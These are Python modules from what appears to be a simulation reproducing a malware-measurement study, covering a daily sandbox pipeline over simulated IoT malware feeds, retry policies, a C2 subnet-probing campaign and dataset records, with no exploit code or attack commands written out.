from ..world.calibration import ACTIVE_WEEKS, MAY_7_2022
from ..world.generator import ANALYSIS_HOUR_OFFSET, World
from .datasets import Datasets, ExploitRecord
from .profiles import AttackObservation, BinaryNetworkProfile, ExploitObservation
from .retry import FEED_RETRY, SANDBOX_RETRY, RetryPolicy


@dataclass
class PipelineConfig:
    """Operational knobs of the daily loop."""

    study_days: int | None = None      # default: the full active window
    liveness_retries: int = 1          # extra 4h-spaced liveness probes
    observe_attack_families_only: bool = True
    #: CPU architectures the sandbox supports (§6d extension); the paper's
    #: study is MIPS-only
    architectures: tuple[str, ...] = ("mips",)
    #: sandbox activation rate (§6f: the paper measures ~0.90); ablation
    #: knob for the "execution infrastructure" argument of §3.3
    activation_rate: float = 0.90
    #: sharded execution (repro.core.parallel): this pipeline only analyzes
    #: samples whose sha256 maps to ``shard_index`` of ``shard_count``
    shard_index: int = 0
    shard_count: int = 1
    #: deterministic fault plan (repro.netsim.faults); None = reliable world
    faults: FaultPlan | None = None
    #: control-plane retries for a feed pull that hits an outage window
    feed_retry: RetryPolicy = FEED_RETRY
    #: retries for transient sandbox activation crashes before quarantine
    sandbox_retry: RetryPolicy = SANDBOX_RETRY


def total_study_days(config: PipelineConfig | None = None) -> int:
    """Number of daily iterations a study runs for this config.

    The default covers the active weeks plus the reporting tail:
    campaign samples keep surfacing for a few weeks after their C2's
    week, and feeds add up to a day of latency.
    """
    config = config or PipelineConfig()
    if config.study_days is not None:
        return config.study_days
    return ACTIVE_WEEKS * 7 + 60


class MalNet:
    """Orchestrates the daily measurement over a generated world."""

    def __init__(self, world: World, config: PipelineConfig | None = None,
                 telemetry: Telemetry | None = None):
        self.world = world
        self.config = config or PipelineConfig()
        self.datasets = Datasets()
        self.telemetry = telemetry or NULL_TELEMETRY
        self.telemetry.bind_sim_clock(lambda: world.internet.clock.now)
        world.vt.telemetry = self.telemetry
        world.bazaar.telemetry = self.telemetry
        self._rng = random.Random(world.rng.getrandbits(32))
        # base for the per-sample reseed: analysis randomness must depend
        # only on (world seed, sha256) so that shard workers and the serial
        # loop draw identical streams for every sample (see _reseed_for)
        self._seed_base = world.seed if world.seed is not None \
            else world.rng.getrandbits(32)
        self._machines = frozenset(
            ARCH_MACHINES[arch] for arch in self.config.architectures
        )
        self.sandbox = CncHunterSandbox(
            self._rng, world.internet,
            emulator=MipsEmulator(
                # derived from the world seed (not a fixed constant) so two
                # worlds with different seeds don't share emulator randomness
                random.Random(world.rng.getrandbits(32)),
                activation_rate=self.config.activation_rate,
                machines=self._machines,
            ),
            telemetry=self.telemetry,
        )
        self._seen_hashes: set[str] = set()
        #: per-feed backfill cursor: start of the earliest window whose
        #: pull has not succeeded yet (outage days are re-covered by the
        #: next successful pull instead of being silently lost)
        self._feed_cursor: dict[str, float] = {}
        metrics = self.telemetry.metrics
        # fault layer: bind one injector to every hook point.  All of its
        # decisions derive from (world seed, entity, time slot), so shard
        # workers and the serial loop agree on every injected failure.
        self.faults: FaultInjector | None = None
        if self.config.faults is not None and self.config.faults.enabled:
            self.faults = FaultInjector(
                self.config.faults, self._seed_base,
                counter=metrics.counter(
                    "fault_injections", "injected fault decisions that fired",
                    labelnames=("kind",)),
            )
        world.internet.faults = self.faults
        world.internet.resolver.faults = self.faults
        world.internet.resolver.bind_metrics(metrics)
        world.internet.telemetry = self.telemetry
        world.vt.faults = self.faults
        world.bazaar.faults = self.faults
        self.sandbox.faults = self.faults
        self._m_collected = metrics.counter(
            "samples_collected", "samples surviving the daily dedup/ELF filter")
        self._m_verified = metrics.counter(
            "samples_verified", "samples corroborated by >= 5 AV engines")
        self._m_activated = metrics.counter(
            "samples_activated", "samples exhibiting behavior in the sandbox")
        self._m_skipped = metrics.counter(
            "samples_skipped", "samples dropped before profiling",
            labelnames=("reason",))
        self._m_emulation_errors = metrics.counter(
            "emulation_errors", "binaries QEMU could not load at all")
        self._m_liveness = metrics.counter(
            "c2_liveness_probes", "day-0 weaponized C2 liveness checks",
            labelnames=("outcome",))
        self._m_c2_records = metrics.counter(
            "c2_records", "C2 endpoint records added to D-C2s")
        self._m_exploit_records = metrics.counter(
            "exploit_records", "exploit observations added to D-Exploits")
        self._m_ddos_records = metrics.counter(
            "ddos_records", "DDoS command observations added to D-DDOS")
        self._m_quarantined = metrics.counter(
            "samples_quarantined",
            "samples whose analysis raised and was contained",
            labelnames=("error",))
        self._m_retries = metrics.counter(
            "pipeline_retries", "retries of fallible pipeline operations",
            labelnames=("stage",))
        # allocation-path telemetry for the columnar packet core.  The
        # underlying tallies live in module-level dicts (the hot loops
        # can't afford a labelled-counter call per packet), so the
        # pipeline snapshots them at construction and publishes deltas —
        # a worker process therefore reports only its own shard's work.
        self._m_encode_memo = metrics.counter(
            "packet_encode_memo_total",
            "pcap encode-memo lookups by result",
            labelnames=("result",))
        self._m_columnar = metrics.counter(
            "capture_columnar_total",
            "columnar capture rows appended / packets materialized",
            labelnames=("event",))
        self._encode_base = encode_memo_stats()
        self._columnar_base = columnar_stats()
        # pre-seed every known label so zero-valued series still show up
        # in ``repro stats`` / ``obs diff`` output
        for result in self._encode_base:
            self._m_encode_memo.labels(result=result)
        for event in self._columnar_base:
            self._m_columnar.labels(event=event)

    def _drain_alloc_stats(self) -> None:
        """Publish columnar/encode-memo deltas since the last drain."""
        encode = encode_memo_stats()
        for result, total in encode.items():
            delta = total - self._encode_base[result]
            if delta:
                self._m_encode_memo.labels(result=result).inc(delta)
        self._encode_base = encode
        columnar = columnar_stats()
        for event, total in columnar.items():
            delta = total - self._columnar_base[event]
            if delta:
                self._m_columnar.labels(event=event).inc(delta)
        self._columnar_base = columnar

    # -- public API --------------------------------------------------------------

    def run(self) -> Datasets:
        """Run the full daily study and the final TI re-query."""
        for day in range(total_study_days(self.config)):
            self.run_day(day)
        return self.complete()

    def complete(self) -> Datasets:
        """Finish a day-by-day run: the TI re-query plus telemetry drain.

        Separated from :meth:`run` so day-granular execution (see
        :class:`~repro.core.study.DayRunner`) performs the exact same
        closing steps the monolithic loop does.
        """
        self.recheck_threat_intel()
        self._drain_alloc_stats()
        return self.datasets

    def state_snapshot(self) -> dict:
        """Picklable cross-day pipeline state for checkpointing.

        These three items are the *only* state a study day leaves behind
        that later days read: the dedup set, the per-feed backfill
        cursors, and the accumulated datasets.  Everything else consumed
        by a sample's analysis is re-derived from ``(world seed,
        sha256)`` on the spot (:meth:`_reseed_for`), which is the same
        property the sharded runner relies on — so a fresh ``MalNet``
        on a regenerated world plus this snapshot continues a study
        byte-identically.
        """
        return {
            "seen_hashes": set(self._seen_hashes),
            "feed_cursor": dict(self._feed_cursor),
            "datasets": self.datasets,
        }

    def restore_state(self, state: dict) -> None:
        """Adopt a :meth:`state_snapshot` from an earlier (partial) run."""
        self._seen_hashes = set(state["seen_hashes"])
        self._feed_cursor = dict(state["feed_cursor"])
        self.datasets = state["datasets"]

    def run_day(self, day: int) -> list[BinaryNetworkProfile]:
        """Collect and analyze everything published on one study day."""
        with self.telemetry.tracer.span("pipeline.run_day", day=day) as span:
            day_start = self.world.epoch + day * SECONDS_PER_DAY
            day_end = day_start + SECONDS_PER_DAY
            entries = self._collect(day_start, day_end)
            analysis_time = day_start + ANALYSIS_HOUR_OFFSET
            profiles: list[BinaryNetworkProfile] = []
            for sha256, data, published, source in entries:
                self._set_clock(analysis_time)
                profile = self._analyze_binary(sha256, data, published, day,
                                               source)
                if profile is not None:
                    profiles.append(profile)
                    self.datasets.profiles.append(profile)
            span.set_attribute("collected", len(entries))
            span.set_attribute("profiled", len(profiles))
            if entries:
                self.telemetry.events.emit(
                    "pipeline.day", day=day,
                    collected=len(entries), profiled=len(profiles),
                )
            self._drain_alloc_stats()
        return profiles

    def recheck_threat_intel(self, when: float = MAY_7_2022) -> None:
        """The second VT query of section 2.3 (May 7th, 2022)."""
        with self.telemetry.tracer.span("pipeline.recheck_ti"):
            for record in self.datasets.d_c2s.values():
                record.vt_malicious_recheck = self.world.vt.is_malicious(
                    record.endpoint, when
                )

    # -- collection ------------------------------------------------------------------

    def _collect(
        self, start: float, end: float
    ) -> list[tuple[str, bytes, float, str]]:
        """Daily pull from both feeds: shard filter, dedup, MIPS filter.

        The feeds index entries by sha256, so the digest rides along from
        here instead of being recomputed downstream (``_verify_and_label``
        and the sandbox used to re-hash every binary up to three times).
        """
        candidates: dict[str, tuple[bytes, float, set[str]]] = {}
        for entry in self._pull_feed(self.world.vt, start, end):
            candidates[entry.sample.sha256] = (
                entry.sample.data, entry.published, {"virustotal"}
            )
        for entry in self._pull_feed(self.world.bazaar, start, end):
            existing = candidates.get(entry.sample.sha256)
            if existing is None:
                candidates[entry.sample.sha256] = (
                    entry.sample.data, entry.published, {"malwarebazaar"}
                )
            else:
                existing[2].add("malwarebazaar")
        shard_count = self.config.shard_count
        collected: list[tuple[str, bytes, float, str]] = []
        for sha256, (data, published, sources) in sorted(candidates.items()):
            if (shard_count > 1
                    and shard_of(sha256, shard_count) != self.config.shard_index):
                continue  # another sandbox's sample (parallel-shard model)
            if sha256 in self._seen_hashes:
                self._m_skipped.labels(reason="duplicate").inc()
                continue
            if not is_supported_elf(data, self._machines):
                self._m_skipped.labels(reason="unsupported-elf").inc()
                continue
            self._seen_hashes.add(sha256)
            source = "both" if len(sources) == 2 else sources.pop()
            collected.append((sha256, data, published, source))
        self._m_collected.inc(len(collected))
        return collected

    def _pull_feed(self, service, start: float, end: float) -> list:
        """One feed's daily pull, with retries and outage backfill.

        A pull that hits an outage window is retried a few times
        (control-plane retries: the simulation clock does not move); if
        every attempt fails the window is left uncovered and the next
        successful pull widens its window back to the cursor, so entries
        published during an outage surface late instead of never.
        """
        name = service.feed_name
        # setdefault, not get: if the very first pull fails, the cursor
        # must already mark its window as uncovered or day 0 is lost
        window_start = self._feed_cursor.setdefault(name, start)
        for attempt in range(self.config.feed_retry.attempts):
            try:
                entries = service.feed_between(window_start, end,
                                               attempt=attempt)
            except FeedUnavailable:
                if attempt + 1 < self.config.feed_retry.attempts:
                    self._m_retries.labels(stage="feed").inc()
                continue
            if window_start < start:
                self.telemetry.events.emit(
                    "pipeline.feed_backfill", feed=name,
                    recovered=len(entries),
                    window_days=(end - window_start) / SECONDS_PER_DAY,
                )
            self._feed_cursor[name] = end
            return entries
        self.telemetry.events.warning(
            "pipeline.feed_outage", feed=name,
            day=int((start - self.world.epoch) // SECONDS_PER_DAY),
        )
        return []

    def _verify_and_label(self, sha256: str, now: float) -> tuple[bool, str | None, str]:
        """>=5-engine corroboration plus YARA/AVClass2 family labeling."""
        entry = self.world.vt.lookup_hash(sha256)
        if entry is None:
            return False, None, ""
        report = self.world.vt.scan(entry.sample, now)
        if report.positives < DETECTION_THRESHOLD:
            return False, None, ""
        if report.yara_families:
            return True, report.yara_families[0], "yara"
        family = label_sample(report.engine_labels)
        return True, family, "avclass" if family else ""

    # -- per-binary analysis -------------------------------------------------------------

    def _reseed_for(self, sha256: str) -> None:
        """Reset the analysis RNG streams to this sample's derived state.

        MalNet ran four sandboxes in parallel (§2.2); in a parallel fleet
        no binary's randomness can depend on how many binaries another
        sandbox processed first.  Deriving both streams from
        ``(world seed, sha256)`` makes per-binary analysis a pure function
        of the sample, which is what lets the sharded runner's merged
        output equal the serial run bit for bit.
        """
        self._rng.seed(stable_seed("sandbox", self._seed_base, sha256))
        self.world.internet.rng.seed(
            stable_seed("internet", self._seed_base, sha256))

    def _analyze_binary(
        self, sha256: str, data: bytes, published: float, day: int, source: str
    ) -> BinaryNetworkProfile | None:
        """Analyze one sample, containing any per-sample failure.

        The paper's fleet lost individual sandbox runs routinely; one
        malformed IoC string or crashed activation must cost one sample,
        not the study day.  Any exception escaping the analysis quarantines
        the sample: a stub profile records the failure, telemetry counts
        it, and the day's remaining samples proceed.
        """
        try:
            return self._analyze_binary_inner(sha256, data, published, day,
                                              source)
        except EmulationError:
            # passed the cheap header filter but is not actually loadable
            # (corrupt sections, stripped behavior); skipped, like any
            # sample QEMU cannot boot
            self._m_emulation_errors.inc()
            self.telemetry.events.warning(
                "pipeline.emulation_error", day=day, sha256=sha256,
            )
            return None
        except Exception as exc:
            error = type(exc).__name__
            self._m_quarantined.labels(error=error).inc()
            self.telemetry.events.warning(
                "pipeline.sample_quarantined", day=day, sha256=sha256,
                error=error, detail=str(exc),
            )
            return BinaryNetworkProfile(
                sha256=sha256, published=published, day=day, source=source,
                quarantined=True, quarantine_reason=f"{error}: {exc}",
            )

    def _activate_with_retries(self, sha256: str, data: bytes):
        """Sandbox activation with bounded retries on transient crashes.

        Re-seeding before every attempt makes a retried activation draw
        the exact stream a first-try activation would have drawn, so a
        recovered transient crash leaves no trace in the datasets — the
        property the fault-determinism tests pin down.
        """
        attempts = self.config.sandbox_retry.attempts
        for attempt in range(attempts):
            self._reseed_for(sha256)
            try:
                return self.sandbox.analyze_offline(
                    data, scan_budget=self.world.scale.scan_budget,
                    sha256=sha256, attempt=attempt,
                )
            except SandboxCrash:
                if attempt + 1 >= attempts:
                    raise
                self._m_retries.labels(stage="sandbox").inc()

    def _analyze_binary_inner(
        self, sha256: str, data: bytes, published: float, day: int, source: str
    ) -> BinaryNetworkProfile | None:
        self._reseed_for(sha256)
        now = self.world.internet.clock.now
        is_malware, family_label, label_source = self._verify_and_label(
            sha256, now)
        if not is_malware:
            self._m_skipped.labels(reason="unverified").inc()
            return None
        self._m_verified.inc()
        report = self._activate_with_retries(sha256, data)
        if report.activated:
            self._m_activated.inc()
        profile = BinaryNetworkProfile(
            sha256=report.sha256, published=published, day=day, source=source,
            family_label=family_label, label_source=label_source,
            activated=report.activated, is_p2p=report.is_p2p,
        )
        if not report.activated:
            return profile
        self._record_exploits(profile, report, day)
        if report.is_p2p or not report.has_c2:
            return profile
        self._record_c2(profile, report, data, day)
        return profile

    def _record_exploits(self, profile, report, day: int) -> None:
        profile.scan_ports = report.scan_ports
        seen: set[str] = set()
        for capture in report.exploits:
            vuln = classify_exploit(capture.payload)
            if vuln is None or vuln.key in seen:
                continue
            seen.add(vuln.key)
            observation = ExploitObservation(
                vuln_key=vuln.key,
                loader=extract_loader(capture.payload),
                downloader=extract_downloader(capture.payload),
                port=capture.port,
                payload=capture.payload,
            )
            profile.exploits.append(observation)
            self._m_exploit_records.inc()
            self.datasets.d_exploits.append(ExploitRecord(
                sha256=profile.sha256, vuln_key=vuln.key,
                loader=observation.loader, downloader=observation.downloader,
                day=day,
            ))

    def _resolve_endpoint(self, endpoint: str, dga_seed: int = 0,
                          dga_family: str = "") -> int | None:
        """Resolve an IoC string to a routable address, via live DNS."""
        if dga_seed:
            # a DGA binary walks today's candidate list, so probing its C2
            # must too: a blocked or registrar-lost name is evaded, not
            # fatal, as long as any candidate still resolves
            now = self.world.internet.clock.now
            day = int((now - STUDY_EPOCH) // SECONDS_PER_DAY)
            for domain in dga_domains(dga_seed, dga_family, day):
                address = self.world.internet.resolver.resolve(domain, now=now)
                if address is not None:
                    return address
            return None
        if is_ip_literal(endpoint):
            return ip_to_int(endpoint)
        return self.world.internet.resolver.resolve(
            endpoint, now=self.world.internet.clock.now
        )

    def _record_c2(self, profile, report, data: bytes, day: int) -> None:
        endpoint = report.c2_endpoint
        is_dns = not is_ip_literal(endpoint)
        profile.c2_endpoint = endpoint
        profile.c2_port = report.c2_port
        profile.c2_is_dns = is_dns
        now = self.world.internet.clock.now
        profile.vt_flagged_day0 = self.world.vt.is_malicious(endpoint, now)

        if endpoint not in self.datasets.d_c2s:
            self._m_c2_records.inc()
            self.telemetry.events.emit(
                "pipeline.new_c2", day=day, endpoint=endpoint,
                port=report.c2_port, family=profile.family_label,
            )
        record = self.datasets.c2_record(endpoint, report.c2_port, is_dns,
                                         origin=(day, profile.sha256))
        if report.dga_seed:
            # every binary of a rotating-domain campaign recovers the same
            # schedule seed, which links its daily endpoints together
            profile.dga_seed = report.dga_seed
            if not record.churn_key:
                record.churn_key = str(report.dga_seed)
        record.sample_hashes.add(profile.sha256)
        if profile.family_label:
            record.family_labels.add(profile.family_label)
        record.first_day = min(record.first_day, day)
        record.last_day = max(record.last_day, day)
        record.first_seen = min(record.first_seen, profile.published)
        record.last_seen = max(record.last_seen, profile.published)
        if record.vt_malicious_day0 is False and profile.vt_flagged_day0:
            record.vt_malicious_day0 = True
        if report.c2_candidates and report.c2_candidates[0].confidence >= 1.0:
            record.protocol_verified = True

        live = self._check_liveness(data, endpoint, report.c2_port,
                                    sha256=profile.sha256,
                                    dga_seed=report.dga_seed,
                                    dga_family=report.dga_family)
        self._m_liveness.labels(outcome="live" if live else "dead").inc()
        profile.c2_live_on_day0 = live
        if live:
            record.live_observations += 1
            family = profile.family_label or ""
            wants_observation = (
                not self.config.observe_attack_families_only
                or family in ATTACK_FAMILIES
            )
            if wants_observation:
                self._observe_attacks(profile, record, data)

    def _check_liveness(self, data: bytes, endpoint: str, port: int,
                        sha256: str | None = None, dga_seed: int = 0,
                        dga_family: str = "") -> bool:
        """Weaponized probe of the binary's own C2 (with 4h retries)."""
        policy = RetryPolicy(attempts=1 + self.config.liveness_retries,
                             backoff=4 * 3600.0, multiplier=1.0)
        for attempt in range(policy.attempts):
            address = self._resolve_endpoint(endpoint, dga_seed, dga_family)
            if address is not None:
                results = self.sandbox.probe_targets(
                    data, [(address, port)], sha256=sha256)
                if results and results[0].engaged:
                    return True
            if attempt + 1 < policy.attempts:
                self._m_retries.labels(stage="liveness").inc()
                self.world.internet.clock.advance(policy.delay(attempt))
        return False

    def _observe_attacks(self, profile, record, data: bytes) -> None:
        """Two-hour restricted-mode session on a live C2 (section 2.5)."""
        records_before = len(self.datasets.d_ddos)
        live_report = self.sandbox.observe_live(
            data,
            duration=self.world.scale.observe_duration,
            poll_interval=self.world.scale.observe_poll_interval,
            sha256=profile.sha256,
        )
        if not live_report.connected:
            return
        # origin sequence: fixes the creation order of this session's new
        # records inside the global (day, sha256) order for the shard merge
        seq = 0
        profiled = profile_stream(live_report.server_stream)
        bursts = rate_bursts(
            live_report.contained, SANDBOX_IP,
            c2_hosts={live_report.c2_host},
        )
        burst_targets = {burst.target for burst in bursts}
        for item in profiled:
            # manual verification (a): the bot flooded the commanded target
            verified = verify_flooding(
                item.command, live_report.contained, SANDBOX_IP
            )
            ddos = self.datasets.ddos_record(
                record.endpoint, item.family_profile, item.command,
                when=live_report.capture.packets[-1].timestamp
                if len(live_report.capture) else 0.0,
                origin=(profile.day, profile.sha256, seq),
            )
            seq += 1
            ddos.sample_hashes.add(profile.sha256)
            ddos.verified = ddos.verified or verified
            record.issued_attack = True
            profile.attacks.append(AttackObservation(
                command=item.command, family_profile=item.family_profile,
                when=ddos.when, verified=verified,
            ))
        # behavioral heuristic (b): bursts not explained by a profile
        profiled_targets = {item.command.target_ip for item in profiled}
        for burst in bursts:
            if burst.target in profiled_targets:
                continue
            if not target_in_command_bytes(burst.target,
                                           live_report.server_stream):
                continue  # cannot attribute to a C2 command: discard
            # heuristic detection with unknown verb: record as generic UDP
            from ..botnet.protocols.base import AttackCommand

            command = AttackCommand("udp", burst.target, 0, 60)
            ddos = self.datasets.ddos_record(
                record.endpoint, "heuristic", command, when=burst.start,
                origin=(profile.day, profile.sha256, seq),
            )
            seq += 1
            ddos.sample_hashes.add(profile.sha256)
            ddos.via_heuristic = True
            record.issued_attack = True
            profile.attacks.append(AttackObservation(
                command=command, family_profile="heuristic",
                when=burst.start, verified=True, via_heuristic=True,
            ))
        new_records = len(self.datasets.d_ddos) - records_before
        if new_records:
            self._m_ddos_records.inc(new_records)
            self.telemetry.events.emit(
                "pipeline.ddos_observed", endpoint=record.endpoint,
                commands=new_records,
            )

    # -- clock management -----------------------------------------------------------------

    def _set_clock(self, when: float) -> None:
        """Jump the clock to an analysis instant (parallel-sandbox model)."""
        clock = self.world.internet.clock
        if clock.now <= when:
            clock.advance_to(when)
        else:
            clock.rewind(when)
