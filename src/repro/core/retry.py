"""Retry/backoff policy shared by the pipeline's fallible operations.

The real study's consumers of flaky infrastructure — feed pulls, C2
liveness probes, sandbox activations — all retry on failure.  A
:class:`RetryPolicy` is a frozen value object so it can sit on
``PipelineConfig`` and travel to shard workers; delays are *simulation*
seconds (the pipeline decides whether an operation's retries advance the
simulation clock, as the 4h-spaced liveness probes do, or are treated as
instantaneous control-plane retries, as feed pulls are).
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["RetryPolicy", "FEED_RETRY", "SANDBOX_RETRY"]


@dataclass(frozen=True)
class RetryPolicy:
    """Bounded attempts with (optionally exponential) backoff."""

    attempts: int = 3          # total attempts, including the first
    backoff: float = 60.0      # delay after the first failure (seconds)
    multiplier: float = 2.0    # backoff growth factor per further failure
    max_backoff: float = 4 * 3600.0

    def __post_init__(self) -> None:
        if self.attempts < 1:
            raise ValueError("attempts must be >= 1")

    def delay(self, attempt: int) -> float:
        """Backoff after failed attempt number ``attempt`` (0-based)."""
        return min(self.backoff * self.multiplier ** attempt,
                   self.max_backoff)


#: Feed pulls: a few quick control-plane retries before giving the day up
#: for backfill.
FEED_RETRY = RetryPolicy(attempts=3, backoff=900.0)

#: Sandbox activations: transient crashes get two more tries before the
#: sample is quarantined.
SANDBOX_RETRY = RetryPolicy(attempts=3, backoff=0.0)
