"""The D-PC2 active-probing campaign (section 2.3b).

Probe 6 subnets on 12 historically malicious ports, every 4 hours for two
weeks, using two weaponized samples (one Gafgyt, one Mirai).  The
methodology's containment rules apply: only send the C2 "call-home" to
hosts that listen on a port, and skip hosts presenting a well-known
service banner (section 2.6).

Discovered C2s then keep being probed each slot, producing the per-slot
engagement matrix behind Figure 4.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..determinism import stable_seed
from ..netsim.addresses import Subnet
from ..netsim.internet import SECONDS_PER_DAY, TimeWheel, VirtualInternet
from ..netsim.packet import Protocol
from ..obs import NULL_TELEMETRY, Telemetry
from ..sandbox.sandbox import CncHunterSandbox
from ..world.calibration import (
    PROBE_INTERVAL_HOURS,
    PROBE_PORTS,
)
from .datasets import ProbeObservation

#: banner prefixes of well-known benign services the probing filters out
WELL_KNOWN_BANNERS = (b"HTTP/1.0 200 OK\r\nServer: Apache",
                      b"HTTP/1.1 200 OK\r\nServer: Apache",
                      b"Server: nginx", b"220 ProFTPD")


@dataclass
class ProbingCampaign:
    """Runs the subnet-probing study and collects D-PC2."""

    internet: VirtualInternet
    sandbox: CncHunterSandbox
    subnets: list[Subnet]
    sample_binaries: list[bytes]      # the two weaponized samples
    start: float
    days: int = 14
    ports: tuple[int, ...] = PROBE_PORTS
    #: hours between probes; the paper uses 4 — the ablation bench shows
    #: what a lazier prober would mismeasure
    interval_hours: int = PROBE_INTERVAL_HOURS
    observations: list[ProbeObservation] = field(default_factory=list)
    #: (address, port) pairs confirmed as C2s at least once
    discovered: set[tuple[int, int]] = field(default_factory=set)
    telemetry: Telemetry = NULL_TELEMETRY
    #: when set, every slot reseeds the internet RNG from this value, so
    #: the campaign runs identically whether or not the daily pipeline
    #: (or anything else) consumed the shared stream first
    world_seed: int | None = None
    #: time wheel over the inverted listener index: (host, port) pairs
    #: worth scanning, bucketed by the probe slots their online window
    #: overlaps — listener bindings, banners, and lifetimes are static
    #: world state, so this is built once
    _scan_wheel: TimeWheel | None = field(default=None, repr=False,
                                          compare=False)
    #: response_matrix memo, keyed by observation/discovery counts
    _matrix_cache: tuple | None = field(default=None, repr=False, compare=False)

    @property
    def slots_per_day(self) -> int:
        return 24 // self.interval_hours

    @property
    def total_slots(self) -> int:
        return self.days * self.slots_per_day

    # -- scanning -------------------------------------------------------------

    def _build_scan_index(self) -> list:
        """Host/port pairs that could ever answer a probe.

        The naive scan is O(subnets x hosts x ports) *per slot* with a
        dict lookup per (host, port); almost all of it misses — probe
        /24s are mostly unallocated space.  Listeners, banners, and the
        banner filter are static, so we invert once: per slot only the
        surviving pairs' online windows need checking.
        """
        index = []
        for subnet in self.subnets:
            for address in subnet.hosts():
                host = self.internet.host(address)
                if host is None:
                    continue
                for port in self.ports:
                    listener = host.listener(Protocol.TCP, port)
                    if listener is None:
                        continue
                    if any(listener.banner.startswith(b)
                           for b in WELL_KNOWN_BANNERS if listener.banner):
                        continue  # filtered: well-known service (section 2.6)
                    index.append((address, port, host))
        return index

    def _build_scan_wheel(self) -> TimeWheel:
        """Bucket the scan index by the probe slots each host is online.

        Checking ``is_online`` across the whole index every slot is
        O(index) of misses — most C2s live a few hours out of a two-week
        campaign.  Host lifetimes are static, so each index entry is
        registered under only the slots overlapping its online window
        (clamped to the campaign span; downloader hosts are open-ended).
        Entries are inserted in scan-index order, so per-slot candidates
        keep the order the full scan produced.
        """
        wheel = TimeWheel(self.interval_hours * 3600.0)
        horizon = self.start + self.days * SECONDS_PER_DAY
        for entry in self._build_scan_index():
            _address, _port, host = entry
            begin = max(host.online_from, self.start)
            end = min(host.online_until, horizon)
            if end > begin:
                wheel.add_window(begin, end, entry)
        return wheel

    def _listening_targets(self, now: float) -> list[tuple[int, int]]:
        """SYN-scan the subnets: hosts listening on a probe port now."""
        if self._scan_wheel is None:
            self._scan_wheel = self._build_scan_wheel()
        return [(address, port)
                for address, port, host in self._scan_wheel.items_at(now)
                if host.is_online(now)]

    def _probe_slot(self, slot: int) -> None:
        with self.telemetry.tracer.span("probing.slot", slot=slot) as span:
            when = self.start + slot * self.interval_hours * 3600.0
            if self.world_seed is not None:
                self.internet.rng.seed(
                    stable_seed("probe-slot", self.world_seed, slot))
            clock = self.internet.clock
            if clock.now <= when:
                clock.advance_to(when)
            else:
                clock.rewind(when)
            # probe every open target with both weaponized samples; targets we
            # already identified as C2s are probed even if currently silent
            targets = set(self._listening_targets(when)) | self.discovered
            engaged_now: set[tuple[int, int]] = set()
            for binary in self.sample_binaries:
                results = self.sandbox.probe_targets(binary, sorted(targets))
                for result in results:
                    if result.engaged:
                        engaged_now.add((result.target, result.port))
            newly_found = engaged_now - self.discovered
            for address, port in sorted(self.discovered | engaged_now):
                self.observations.append(ProbeObservation(
                    c2_address=address, c2_port=port, slot=slot, when=when,
                    engaged=(address, port) in engaged_now,
                ))
            self.discovered |= engaged_now
            span.set_attribute("targets", len(targets))
            span.set_attribute("engaged", len(engaged_now))
            metrics = self.telemetry.metrics
            metrics.counter(
                "probe_slot_engagements", "per-slot engaged C2 probes"
            ).inc(len(engaged_now))
            metrics.gauge(
                "probing_discovered_c2s", "C2s the campaign has confirmed"
            ).set(len(self.discovered))
            if newly_found:
                self.telemetry.events.emit(
                    "probing.discovered", slot=slot, count=len(newly_found),
                )

    def run(self) -> list[ProbeObservation]:
        """Execute the full campaign; returns the D-PC2 observations."""
        for slot in range(self.total_slots):
            self._probe_slot(slot)
        return self.observations

    # -- views -----------------------------------------------------------------

    def response_matrix(self) -> dict[tuple[int, int], list[bool]]:
        """Per-C2 probe-response series (Figure 4's rows).

        Slots before a server's discovery are padded as non-responses so
        every row spans the full campaign.

        The matrix is memoized on the observation/discovery counts (both
        append-only), since the summary views rebuild it per call.
        """
        state = (len(self.observations), len(self.discovered))
        if self._matrix_cache is not None and self._matrix_cache[0] == state:
            return self._matrix_cache[1]
        matrix: dict[tuple[int, int], list[bool]] = {
            key: [False] * self.total_slots for key in self.discovered
        }
        for obs in self.observations:
            key = (obs.c2_address, obs.c2_port)
            if key in matrix:
                matrix[key][obs.slot] = obs.engaged
        self._matrix_cache = (state, matrix)
        return matrix

    def repeat_response_rate(self) -> float:
        """P(response at slot k+1 | response at slot k) across servers.

        The paper's headline: 91% of the time a server does NOT respond to
        a second probe 4 hours after a successful one, i.e. this is ~0.09.
        """
        successes = 0
        repeats = 0
        for series in self.response_matrix().values():
            for now, nxt in zip(series, series[1:]):
                if now:
                    successes += 1
                    if nxt:
                        repeats += 1
        if successes == 0:
            return 0.0
        return repeats / successes

    def any_full_day_response(self) -> bool:
        """Did any server respond to all six probes of one day? (paper: no)"""
        per_day = self.slots_per_day
        for series in self.response_matrix().values():
            for day in range(self.days):
                window = series[day * per_day:(day + 1) * per_day]
                if len(window) == per_day and all(window):
                    return True
        return False
