"""MalNet core: the paper's pipeline, datasets, and analyses."""

from . import (
    c2_analysis,
    ddos_analysis,
    exploit_analysis,
    report,
    ti_analysis,
)
from .datasets import (
    C2Record,
    Datasets,
    DdosRecord,
    ExploitRecord,
    ProbeObservation,
)
from .firewall import FirewallRule, RuleBundle, compile_rules, coverage_report
from .monitor import Alert, AlertKind, ContinuousMonitor, DailyDigest
from .pipeline import MalNet, PipelineConfig
from .probing import ProbingCampaign
from .profiles import (
    AttackObservation,
    BinaryNetworkProfile,
    ExploitObservation,
)
from .study import run_probing, run_study, select_probe_binaries

__all__ = [
    "Alert",
    "AlertKind",
    "AttackObservation",
    "BinaryNetworkProfile",
    "C2Record",
    "ContinuousMonitor",
    "DailyDigest",
    "FirewallRule",
    "RuleBundle",
    "Datasets",
    "DdosRecord",
    "ExploitObservation",
    "ExploitRecord",
    "MalNet",
    "PipelineConfig",
    "ProbeObservation",
    "ProbingCampaign",
    "c2_analysis",
    "ddos_analysis",
    "exploit_analysis",
    "report",
    "compile_rules",
    "coverage_report",
    "run_probing",
    "run_study",
    "select_probe_binaries",
    "ti_analysis",
]
