"""The five study datasets (paper Table 1) assembled by the pipeline.

:meth:`Datasets.merge` is the reduce side of the sharded study runner:
it combines per-shard outputs into exactly the structure the serial run
builds.  Every record carries an ``origin`` — the ``(day, sha256)`` of
the profile whose analysis created it — which is a total creation order
shared by all shards, so the merge can reproduce serial insertion order
and serial first-writer-wins field semantics without any coordination
between workers.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable

from ..botnet.protocols.base import AttackCommand
from .profiles import BinaryNetworkProfile


@dataclass
class C2Record:
    """One C2 address in D-C2s with its cross-validation state."""

    endpoint: str               # IP literal or domain
    port: int
    is_dns: bool
